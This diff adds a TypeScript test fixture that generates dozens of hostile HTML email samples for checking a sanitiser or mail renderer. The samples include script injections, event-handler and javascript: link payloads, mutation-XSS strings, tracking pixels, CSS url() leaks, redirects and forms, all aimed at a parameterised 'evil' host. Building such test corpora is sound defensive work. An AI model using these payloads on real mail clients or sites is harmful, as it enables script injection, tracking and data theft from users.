@@ -1,0 +1,282 @@
+/**
+ * Mails that try to run something, load something, send something or lead somewhere. `evil` is the address of a server
+ * that nobody may reach. What must be pressed to work has the id `bait`.
+ */
+export interface HostileMail {
+  name: string
+  html: string
+}
+
+/** Whatever part of it runs leaves a trace: a mark on a document, a call, or a window. */
+const deed = (evil: string) =>
+  `document.documentElement.dataset.ran=1;try{top.ran=parent.ran=1}catch{};new Image().src='${evil}/ran';fetch('${evil}/ran');alert(1);open('${evil}/opened')`
+
+const escapeAttribute = (text: string) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
+
+type Vector = [name: string, html: string]
+
+function scripts(evil: string): Vector[] {
+  const run = deed(evil)
+  return [
+    ['script', `<script>${run}</script>`],
+    ['script in capitals', `<ScRiPt>${run}</sCrIpT>`],
+    ['script with a slash', `<script/x>${run}</script>`],
+    ['script from elsewhere', `<script src="${evil}/a.js"></script>`],
+    ['module from elsewhere', `<script type="module" src="${evil}/a.js"></script>`],
+    ['module that imports', `<script type="module">import '${evil}/a.js'</script>`],
+    ['script without its end', `<script>${run}`],
+    ['script after a broken tag', `<<script>${run}//<</script>`],
+    ['script in SVG', `<svg><script>${run}</script></svg>`],
+    ['script in SVG from elsewhere', `<svg><script href="${evil}/a.js"/></svg>`],
+    ['script in SVG as CDATA', `<svg><script><![CDATA[${run}]]></script></svg>`],
+    ['script in a foreign object', `<svg><foreignObject><script>${run}</script></foreignObject></svg>`],
+    ['script in MathML', `<math><mtext><script>${run}</script></mtext></math>`],
+    ['script out of a comment', `<!--><script>${run}</script>-->`],
+    ['script out of a title', `<title></title><script>${run}</script></title>`],
+    ['script out of a textarea', `<textarea></textarea><script>${run}</script></textarea>`],
+    ['script out of a style', `<style></style><script>${run}</script></style>`],
+    ['script in noscript', `<noscript><p title="</noscript><script>${run}</script>"></noscript>`],
+    ['script in a template', `<template shadowrootmode="open"><script>${run}</script></template>`],
+    [
+      'script in a shadow host',
+      `<div><template shadowrootmode="open"><img src=x onerror="${run}"></template></div>`,
+    ],
+    ['script in a table', `<table><tr><script>${run}</script></tr></table>`],
+    ['script after a select', `<select><option></select><script>${run}</script>`],
+    ['speculation rules', `<script type="speculationrules">{"prefetch":[{"urls":["${evil}/p"]}]}</script>`],
+    [
+      'import map',
+      `<script type="importmap">{"imports":{"a":"${evil}/a.js"}}</script><script type="module">import "a"</script>`,
+    ],
+  ]
+}
+
+function events(evil: string): Vector[] {
+  const run = escapeAttribute(deed(evil))
+  const elements: Vector[] = [
+    ['an image that fails', `<img src="x:x" onerror="${run}">`],
+    ['an image that loads', `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run}">`],
+    ['an image without a space', `<img/src="x:x"/onerror="${run}">`],
+    ['the body', `<body onload="${run}">`],
+    ['the body when shown', `<body onpageshow="${run}">`],
+    ['the body when left', `<body onbeforeunload="${run}" onunload="${run}">`],
+    ['the body when focused', `<body onfocus="${run}" onblur="${run}">`],
+    ['SVG', `<svg onload="${run}"></svg>`],
+    ['SVG inside SVG', `<svg><g onload="${run}"></g><svg onload="${run}"></svg></svg>`],
+    ['an animation of SVG', `<svg><animate onbegin="${run}" attributeName="x" dur="1s"></svg>`],
+    ['a set of SVG', `<svg><set onbegin="${run}" onend="${run}" attributeName="x" to="1" dur="1ms"></svg>`],
+    ['an image of SVG', `<svg><image href="x:x" onerror="${run}"></svg>`],
+    ['a field with focus', `<input autofocus onfocus="${run}">`],
+    ['a select with focus', `<select autofocus onfocus="${run}"></select>`],
+    ['a textarea with focus', `<textarea autofocus onfocus="${run}"></textarea>`],
+    ['a button with focus', `<button autofocus onfocus="${run}">Hello</button>`],
+    ['editable text with focus', `<p contenteditable autofocus tabindex="0" onfocus="${run}">Hello</p>`],
+    ['details', `<details open ontoggle="${run}"><summary>Hello</summary></details>`],
+    ['a video', `<video src="x:x" onerror="${run}"></video>`],
+    ['a source of a video', `<video><source src="x:x" onerror="${run}"></video>`],
+    ['an audio', `<audio src="x:x" onerror="${run}" onloadstart="${run}"></audio>`],
+    ['a marquee', `<marquee onstart="${run}" loop="1">Hello</marquee>`],
+    ['a frame', `<iframe onload="${run}"></iframe>`],
+    ['an object', `<object data="x:x" onerror="${run}"></object>`],
+    ['an embedded thing', `<embed src="x:x" onload="${run}" onerror="${run}">`],
+    ['a style', `<style onload="${run}">p { color: red }</style>`],
+    ['a link element', `<link rel="stylesheet" href="data:text/css,p{}" onload="${run}" onerror="${run}">`],
+    [
+      'a CSS animation',
+      `<style>@keyframes a{}</style><p style="animation: a 1ms" onanimationstart="${run}" onanimationend="${run}">Hello</p>`,
+    ],
+    ['a press', `<p id="bait" onclick="${run}" onpointerdown="${run}" onmouseover="${run}">Hello</p>`],
+    ['a key', `<input id="bait" onkeydown="${run}" onclick="${run}" oninput="${run}">`],
+  ]
+  return elements.map(([name, html]) => [`event of ${name}`, html])
+}
+
+function pictures(evil: string): Vector[] {
+  const url = `${evil}/pixel.png`
+  return [
+    ['picture', `<img src="${url}">`],
+    ['picture without a scheme', `<img src="${url.replace('http:', '')}">`],
+    ['picture by srcset', `<img srcset="${url} 1x, ${url}?2 2x">`],
+    ['picture by source', `<picture><source srcset="${url}"><img></picture>`],
+    ['picture loaded late', `<img loading="lazy" src="${url}" width="1" height="1">`],
+    ['picture under its old name', `<image src="${url}">`],
+    ['picture of a button', `<input type="image" src="${url}">`],
+    ['picture of a body', `<body background="${url}">`],
+    ['picture of a table', `<table background="${url}"><td background="${url}">Hello</table>`],
+    ['picture of a video', `<video poster="${url}"></video>`],
+    ['picture in SVG', `<svg><image href="${url}" width="9" height="9"></svg>`],
+    ['picture in SVG by xlink', `<svg><image xlink:href="${url}" width="9" height="9"></svg>`],
+    [
+      'picture of a filter',
+      `<svg><filter id="f"><feImage href="${url}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
+    ],
+    ['part of another SVG', `<svg><use href="${evil}/a.svg#x"/></svg>`],
+    [
+      'picture in a picture',
+      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${url}'/></svg>">`,
+    ],
+    ['video', `<video autoplay src="${evil}/v.mp4"></video>`],
+    ['video by source', `<video autoplay preload="auto"><source src="${evil}/v.mp4"></video>`],
+    ['subtitles', `<video autoplay><track default src="${evil}/t.vtt"></video>`],
+    ['audio', `<audio autoplay src="${evil}/a.mp3"></audio>`],
+    ['background sound', `<bgsound src="${evil}/a.wav">`],
+  ]
+}
+
+function styles(evil: string): Vector[] {
+  const url = `${evil}/style.png`
+  const rules: Vector[] = [
+    ['background', `p { background: url(${url}) }`],
+    ['background in escapes', `p { background: \\75\\72\\6c(${url}) }`],
+    ['list', `p { display: list-item; list-style-image: url("${url}") }`],
+    ['pointer', `p { cursor: url("${url}"), auto }`],
+    ['border', `p { border: 9px solid; border-image: url("${url}") 9 }`],
+    ['content', `p::before { content: url("${url}") }`],
+    ['mask', `p { mask-image: url("${url}"); -webkit-mask-image: url("${url}") }`],
+    ['filter', `p { filter: url("${url}#f") }`],
+    ['clip', `p { clip-path: url("${url}#c") }`],
+    ['image set', `p { background: image-set("${url}" 1x) }`],
+    ['shape', `p { float: left; shape-outside: url("${url}") }`],
+    ['font', `@font-face { font-family: f; src: url("${evil}/f.woff2") } p { font-family: f }`],
+    ['import', `@import url("${evil}/a.css");`],
+    ['import by text', `@import "${evil}/a.css";`],
+    ['import of a layer', `@import "${evil}/a.css" layer(a);`],
+    ['variable', `:root { --u: url("${url}") } p { background: var(--u) }`],
+    ['attribute reader', `p[title^="a"] { background: url("${url}?a") }`],
+    ['expression', `p { width: expression(document.documentElement.dataset.ran=1) }`],
+    ['binding', `p { -moz-binding: url("${evil}/b.xml#b"); behavior: url("${evil}/b.htc") }`],
+  ]
+  return [
+    ...rules.map(([name, css]): Vector => [`style: ${name}`, `<style>${css}</style><p title="a">Hello</p>`]),
+    ['style of an element', `<p style="background: url('${url}'); list-style: url('${url}')">Hello</p>`],
+    [
+      'style in SVG',
+      `<svg><style>@import "${evil}/a.css"; rect { fill: url("${url}#x") }</style><rect width="9" height="9"/></svg>`,
+    ],
+    ['style sheet', `<link rel="stylesheet" href="${evil}/a.css">`],
+    ['style sheet of XML', `<?xml-stylesheet href="${evil}/a.css"?>`],
+  ]
+}
+
+/** Connections that a page may announce; not all of them ask its policy. */
+const announcements = [
+  'prefetch',
+  'prerender',
+  'preconnect',
+  'dns-prefetch',
+  'preload',
+  'modulepreload',
+  'icon',
+  'manifest',
+]
+
+function ways(evil: string): Vector[] {
+  const run = escapeAttribute(deed(evil))
+  const link = (address: string, more = '') => `<a id="bait" href="${address}" ${more}>Hello</a>`
+  return [
+    ...announcements.map(
+      (rel): Vector => [`link element: ${rel}`, `<link rel="${rel}" as="image" href="${evil}/${rel}">`],
+    ),
+    ['refresh', `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`],
+    ['refresh with odd spaces', `<meta http-equiv="  refresh" content="0 ; URL='${evil}/refresh'">`],
+    ['refresh to a script', `<meta http-equiv="refresh" content="0;url=javascript:${run}">`],
+    [
+      'refresh to a document',
+      `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${run}</script>">`,
+    ],
+    ['base address', `<base href="${evil}/"><img src="relative.png">${link('relative')}`],
+    ['base target', `<base target="_top">${link(`${evil}/top`)}`],
+    ['link', link(`${evil}/link`)],
+    ['link to the top', link(`${evil}/link`, 'target="_top"')],
+    ['link to the parent', link(`${evil}/link`, 'target="_parent"')],
+    ['link to a new window', link(`${evil}/link`, 'target="_blank" rel="opener"')],
+    ['link that downloads', link(`${evil}/link`, 'download')],
+    ['link that pings', link('#x', `ping="${evil}/ping"`)],
+    [
+      'link in SVG',
+      `<svg width="90" height="30"><a href="${evil}/svg"><text id="bait" y="20">Hello</text></a></svg>`,
+    ],
+    [
+      'link in SVG by xlink',
+      `<svg width="90" height="30"><a xlink:href="${evil}/svg"><text id="bait" y="20">Hello</text></a></svg>`,
+    ],
+    [
+      'link that is animated',
+      `<svg width="90" height="30"><a><animate attributeName="href" values="${evil}/svg" begin="0s" fill="freeze"/><text id="bait" y="20">Hello</text></a></svg>`,
+    ],
+    ['link in MathML', `<math href="${evil}/math" id="bait"><mtext>Hello</mtext></math>`],
+    [
+      'link of a map',
+      `<img usemap="#m" width="90" height="30" id="bait" alt="Hello"><map name="m"><area shape="default" href="${evil}/area"></map>`,
+    ],
+    [
+      'link in a shadow',
+      `<div id="bait"><template shadowrootmode="open"><a href="${evil}/shadow">Hello</a></template></div>`,
+    ],
+    ['script link', link(`javascript:${run}`)],
+    ['script link in capitals', link(`JaVaScRiPt:${run}`)],
+    ['script link with a tab', link(`java&#9;script:${run}`)],
+    ['script link with a line', link(`&#1;java&#10;script:${run}`)],
+    ['script link in a table', `<table><td>${link(`javascript:${run}`)}</table>`],
+    ['document link', link(`data:text/html,<script>${run}</script>`)],
+    [
+      'text that turns into a link',
+      `<svg></p><style><a title="</style><a id=bait href='${evil}/mutated'>Hello</a>">`,
+    ],
+    [
+      'text that turns into a connection',
+      `<math><mtext><table><mglyph><style><!--</style><img title="--><link rel=preconnect href='${evil}'>">`,
+    ],
+    ['form', `<form action="${evil}/form"><button id="bait">Hello</button></form>`],
+    [
+      'form by post',
+      `<form method="post" action="${evil}/form" target="_top"><input name="a" value="1"><input type="submit" id="bait"></form>`,
+    ],
+    [
+      'form of a button',
+      `<form id="f"></form><button id="bait" form="f" formaction="${evil}/form">Hello</button>`,
+    ],
+    ['form of a script', `<form action="javascript:${run}"><button id="bait">Hello</button></form>`],
+  ]
+}
+
+function documents(evil: string): Vector[] {
+  const run = deed(evil)
+  const inner = escapeAttribute(
+    `<script>${run}</script><img src="${evil}/inner.png"><a id="bait" href="${evil}/inner">Hello</a>`,
+  )
+  return [
+    ['frame', `<iframe src="${evil}/frame"></iframe>`],
+    ['frame of a script', `<iframe src="javascript:${escapeAttribute(run)}"></iframe>`],
+    [
+      'frame of a document',
+      `<iframe src="data:text/html,<script>${escapeAttribute(run)}</script>"></iframe>`,
+    ],
+    ['frame of its own', `<iframe srcdoc="${inner}"></iframe>`],
+    [
+      'frame that allows itself all',
+      `<iframe sandbox="allow-scripts allow-top-navigation allow-popups" srcdoc="${inner}"></iframe>`,
+    ],
+    ['frames', `<frameset><frame src="${evil}/frame"></frameset>`],
+    ['object', `<object data="${evil}/object.html"></object>`],
+    [
+      'object of SVG',
+      `<object type="image/svg+xml" data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${escapeAttribute(run)}'/>"></object>`,
+    ],
+    ['embedded thing', `<embed src="${evil}/embed.svg">`],
+    ['embedded script', `<embed src="javascript:${escapeAttribute(run)}">`],
+    ['applet', `<applet code="a.class" archive="${evil}/a.jar"></applet>`],
+    ['portal', `<portal src="${evil}/portal"></portal>`],
+    ['fenced frame', `<fencedframe src="${evil}/fenced"></fencedframe>`],
+    [
+      'policy of its own',
+      `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${evil}/policy.png">`,
+    ],
+    ['application of old', `<html manifest="${evil}/cache.manifest"><p>Hello</p>`],
+  ]
+}
+
+export function hostileMails(evil: string): HostileMail[] {
+  const groups = [scripts, events, pictures, styles, ways, documents]
+  return groups.flatMap(vectors => vectors(evil)).map(([name, html]) => ({ name, html }))
+}
